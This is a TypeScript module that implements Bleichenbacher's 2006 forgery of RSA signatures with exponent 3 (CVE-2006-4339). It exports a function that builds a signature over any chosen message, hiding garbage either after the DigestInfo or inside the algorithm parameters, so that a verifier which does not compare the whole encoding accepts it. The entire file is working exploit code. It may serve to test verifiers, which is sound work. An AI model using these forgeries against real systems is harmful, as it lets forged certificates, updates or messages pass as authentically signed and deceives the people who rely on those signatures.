/**
 * RSA signatures made without the private key, for verifiers that do not compare the whole encoding.
 *
 * With exponent 3, a number whose cube looks like a PKCS #1 v1.5 encoding where the verifier looks is a signature to it
 * (D. Bleichenbacher, CRYPTO 2006 rump session; CVE-2006-4339).
 * @module
 */
import { createHash } from "node:crypto";
import { NULL, objectIdentifier } from "./der.js";

/** Where the bytes are that a careless verifier does not look at. */
export type ForgeryKind = "trailing-garbage" | "garbage-in-parameters";

const SIZE = 256;
/** Eight bytes of padding, the least there may be (RFC 8017 section 9.2). */
const PADDING = Buffer.from(`0001${"ff".repeat(8)}00`, "hex");
const SHA256 = objectIdentifier("2.16.840.1.101.3.4.2.1");

/**
 * @param signed what the signature is to cover.
 * @returns 256 bytes; `undefined` where the digest is even, which cannot be the end of the cube wanted.
 */
export function forgedSignature(signed: Buffer, kind: ForgeryKind): Buffer | undefined {
	const digest = createHash("sha256").update(signed).digest();
	if (kind === "trailing-garbage") return bytes(greatestRoot(trailing(digest)) + 1n);
	return digest.at(-1)! % 2 === 0 ? undefined : inParameters(digest);
}

/** `00 01 FF… 00 DigestInfo`, in front; the rest is left to the cube. */
function trailing(digest: Buffer): Buffer {
	const info = Buffer.concat([Buffer.of(0x30, 0x31, 0x30, 0x0d), SHA256, NULL, Buffer.of(0x04, 0x20), digest]);
	return Buffer.concat([PADDING, info]);
}

/** The algorithm's parameters are an OCTET STRING of everything between the beginning and the digest at the end. */
function inParameters(digest: Buffer): Buffer {
	const end = Buffer.concat([Buffer.of(0x04, 0x20), digest]);
	const info = SIZE - PADDING.length - 3;
	const algorithm = info - 3 - end.length;
	const header = Buffer.of(0x30, 0x81, info, 0x30, 0x81, algorithm);
	const parameters = Buffer.of(0x04, 0x81, algorithm - SHA256.length - 3);
	const start = greatestRoot(Buffer.concat([PADDING, header, SHA256, parameters, Buffer.alloc(1, 0x80)]));
	const width = BigInt(end.length * 8);
	return bytes(((start >> width) << width) | lowRoot(number(end), width));
}

/** The greatest number whose cube is not above `start` with zeros behind it. */
function greatestRoot(start: Buffer): bigint {
	const target = number(Buffer.concat([start, Buffer.alloc(SIZE - start.length)]));
	let root = 0n;
	for (let bit = 1n << 683n; bit > 0n; bit >>= 1n) if ((root | bit) ** 3n <= target) root |= bit;
	return root;
}

/** The number of `width` bits whose cube ends in those of `end`, which is odd. */
function lowRoot(end: bigint, width: bigint): bigint {
	let root = 0n;
	for (let bit = 0n; bit < width; bit++) if ((((root ** 3n - end) >> bit) & 1n) === 1n) root |= 1n << bit;
	return root;
}

function number(digits: Buffer): bigint {
	return BigInt(`0x${digits.toString("hex")}`);
}

function bytes(value: bigint): Buffer {
	return Buffer.from(value.toString(16).padStart(SIZE * 2, "0"), "hex");
}
